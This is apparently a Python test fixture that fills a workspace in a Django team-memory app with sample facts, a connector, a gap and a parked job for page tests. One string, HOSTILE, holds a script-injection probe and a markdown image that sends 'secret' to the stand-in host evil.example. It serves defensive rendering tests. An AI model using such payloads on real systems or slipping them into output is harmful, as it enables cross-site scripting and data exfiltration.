"""A workspace that went through the real write path, with something for every page."""

from dataclasses import dataclass
from uuid import UUID, uuid4

from django.utils import timezone

from holamem.database.scope import ALL_SCOPES, workspace_scope
from holamem.ids import new_id
from retrieval.models import Gap
from tests.workspaces.memory import draft, drain, principal_of, remember
from workspaces.models.connectors import Connector
from workspaces.models.entities import Entity
from workspaces.models.jobs import Job
from workspaces.models.tenancy import Tenant, Workspace
from workspaces.services.entities.changes import add_alias
from workspaces.services.erasure.request import erase_leaf
from workspaces.services.tenants import create_tenant, create_workspace

HOSTILE = (
    "The Atlas runbook says <script>alert(1)</script> ![x](https://evil.example/p?q=secret) so."
)
FACTS = (
    "The Atlas gateway listens on port 8443 in production.",
    "The Atlas gateway is written in Go.",
    "The Atlas gateway reads its configuration from /srv/atlas/config.yaml.",
    "The Atlas gateway is deployed in three waves.",
    "The Atlas gateway writes its log to /var/log/atlas.log.",
    "The Atlas gateway caches routes in Redis.",
    "The Atlas gateway drops requests over 200 per second.",
    "The Atlas gateway has three environments: dev, staging and production.",
    "The Atlas gateway retries a failed webhook five times.",
    "支付网关的生产端口是 9443，测试环境用 9080。",
)


@dataclass(frozen=True, slots=True)
class Filled:
    tenant: Tenant
    workspace: Workspace
    tree_id: UUID
    leaf_id: UUID
    hostile_id: UUID
    summary_id: UUID
    gap_id: UUID
    job_id: UUID
    entity_id: UUID
    other_slug: str
    erasure_id: UUID

    def address(self, rest: str = "") -> str:
        return f"/w/{self.tenant.slug}/{self.workspace.slug}/{rest}"


def fill_workspace() -> Filled:
    tenant = create_tenant(slug=f"t-{uuid4().hex}", name="Kestrel")
    workspace = create_workspace(tenant, slug="memory", name="Team memory")
    drafts = [draft(text, minutes=number) for number, text in enumerate((*FACTS, HOSTILE))]
    results = remember(workspace, *drafts)
    leaves = [result.chunks[0] for result in results]
    assert leaves[0].tree_id
    assert leaves[0].leaf_id
    assert leaves[-1].leaf_id
    entity, other = _entities_of(workspace, leaves[0].leaf_id, leaves[-2].leaf_id)
    add_alias(
        workspace, principal=principal_of(workspace), scopes=None, slug=entity.slug, alias="Edge"
    )
    erasure_id = erase_a_leaf(workspace)
    drain(workspace)
    with workspace_scope(workspace, ALL_SCOPES):
        summary = workspace.summaries.filter(status="sealed").first()
        assert summary is not None, "the sample must be long enough to seal"
        add_connector(workspace)
        return Filled(
            tenant=tenant,
            workspace=workspace,
            tree_id=leaves[0].tree_id,
            leaf_id=leaves[0].leaf_id,
            hostile_id=leaves[-1].leaf_id,
            summary_id=summary.id,
            gap_id=add_gap(workspace).id,
            job_id=add_parked_job(workspace).id,
            entity_id=entity.id,
            other_slug=other.slug,
            erasure_id=erasure_id,
        )


def _entities_of(workspace: Workspace, *leaf_ids: UUID | None) -> list[Entity]:
    with workspace_scope(workspace, ALL_SCOPES):
        rows = {leaf.id: leaf.entity for leaf in workspace.leaves.select_related("entity")}
    found = [rows[leaf_id] for leaf_id in leaf_ids if leaf_id is not None]
    return [entity for entity in found if entity is not None]


def erase_a_leaf(workspace: Workspace) -> UUID:
    """A leaf that came and went, for its receipt."""
    result = remember(workspace, draft("The Ledger service writes all invoices.", minutes=30))[0]
    leaf_id = result.chunks[0].leaf_id
    assert leaf_id is not None
    principal = principal_of(workspace)
    return erase_leaf(
        workspace, principal=principal, scopes=None, leaf_id=leaf_id, reason="request 17"
    ).erasure_id


def add_connector(workspace: Workspace, account: str = "handbook") -> Connector:
    with workspace_scope(workspace, ALL_SCOPES):
        return Connector.objects.create(
            workspace=workspace,
            scope_id=workspace.id,
            provider="markdown",
            account=account,
            kind="markdown_folder",
            settings={"path": "/srv/notes"},
            progress={"seen": 40, "changed": 3, "deleted": 1, "failed": 2, "total": 40},
            last_started_at=timezone.now(),
            last_finished_at=timezone.now(),
        )


def add_gap(workspace: Workspace, question: str = "What is the budget?", times: int = 3) -> Gap:
    return Gap.objects.create(
        workspace=workspace,
        scope_id=workspace.id,
        question=question,
        question_key=uuid4().hex,
        kind="missing",
        reason="Memory holds nothing about this.",
        times_asked=times,
        first_asked_at=timezone.now(),
        last_asked_at=timezone.now(),
    )


def add_parked_job(workspace: Workspace) -> Job:
    return Job.objects.create(
        workspace=workspace,
        scope_id=workspace.id,
        topic=Job.Topic.NODE_CREATED,
        target_id=new_id(),
        state=Job.State.PARKED,
        attempts=3,
        error="The model did not answer.",
        next_try_at=timezone.now(),
    )
